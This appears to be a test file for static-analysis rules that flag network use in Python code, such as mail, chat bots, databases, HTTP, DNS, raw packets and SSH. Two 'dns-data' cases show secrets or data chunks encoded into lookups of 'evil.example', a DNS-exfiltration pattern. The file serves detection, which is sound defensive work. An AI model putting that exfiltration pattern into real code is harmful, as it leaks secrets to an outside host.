import socket
import requests
import yagmail

# ruleid: python.net.mail
yagmail.SMTP("a@b")
from email.message import EmailMessage

# ok: python.net.mail
EmailMessage()
# ok: python.net.mail
mail.send(x)

import telebot

# ruleid: python.net.chat
telebot.TeleBot(token)
from discord_webhook import DiscordWebhook

# ruleid: python.net.chat
DiscordWebhook(url=url, content=data)
# ok: python.net.chat
bot = Bot(token)
# ok: python.net.chat
telegram.send("x")

import boto3

# ruleid: python.net.cloud
boto3.Session()
# ok: python.net.cloud
session = Session()
# ok: python.net.cloud
azure.paint()

import pymysql

# ruleid: python.net.database
pymysql.connect(host="db")
import sqlite3

# ok: python.net.database
sqlite3.connect("data.db")
# ok: python.net.database
pool.connect()

from sqlalchemy import create_engine

# ruleid: python.net.database-url
create_engine("postgresql://u@db/x")
# ok: python.net.database-url
create_engine("sqlite:///data.db")
# ok: python.net.database-url
create_engine(url)

import zmq

# ruleid: python.net.queue
zmq.Context()
from multiprocessing.connection import Client

# ruleid: python.net.queue
Client(("example.com", 6000))
# ok: python.net.queue
context = Context()
import queue

# ok: python.net.queue
queue.Queue()

import pycurl

# ruleid: python.net.http-library
pycurl.Curl()
import urllib.request

# ruleid: python.net.http-library
opener = urllib.request.build_opener()
from urllib.parse import urlparse

# ok: python.net.http-library
urlparse("https://example.com")
# ok: python.net.http-library
wget.name

import litellm

# ruleid: python.net.model-api
litellm.completion(model="m", messages=[])
# ok: python.net.model-api
client = OpenAI()
# ok: python.net.model-api
model.chat("x")

import nltk

# ruleid: python.net.dataset
nltk.download("punkt")
from sklearn.datasets import load_iris

# ok: python.net.dataset
load_iris()
# ok: python.net.dataset
tray.download("x")

import pandas as pd

# ruleid: python.net.read-url
pd.read_csv("https://example.com/x.csv")
# ok: python.net.read-url
pd.read_csv("x.csv")
# ok: python.net.read-url
pd.read_csv(path)

import dns.resolver

# ruleid: python.net.dns-library
dns.resolver.resolve("example.com", "TXT")
# ruleid: python.net.dns-library
socket.gethostbyaddr("192.0.2.1")
# ok: python.net.dns-library
socket.inet_aton("192.0.2.1")
# ok: python.net.dns-library
resolver.resolve("x")

# ruleid: python.net.dns-data
socket.gethostbyname(secret.hex() + ".evil.example")
# ruleid: python.net.dns-data
socket.getaddrinfo(f"{chunk}.evil.example", 80)
# ok: python.net.dns-data
socket.gethostbyname("example.com")
# ok: python.net.dns-data
socket.gethostbyname(host)
# ok: python.net.dns-data
socket.inet_aton(a + b)

from scapy.all import IP, send

# ruleid: python.net.packet
send(IP(dst="192.0.2.1"))
# ruleid: python.net.packet
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)
# ok: python.net.packet
socket.AF_INET

import paramiko

# ruleid: python.net.remote-shell
paramiko.Transport(("example.com", 22))
# ok: python.net.remote-shell
paramiko.AutoAddPolicy
# ok: python.net.remote-shell
transport.Transport()

import logging.handlers
# ruleid: python.net.mail
logging.handlers.SMTPHandler("mail.example.com", "a@b.example", ["c@d.example"], "log")
# ok: python.net.mail
logging.handlers.RotatingFileHandler("log.txt")
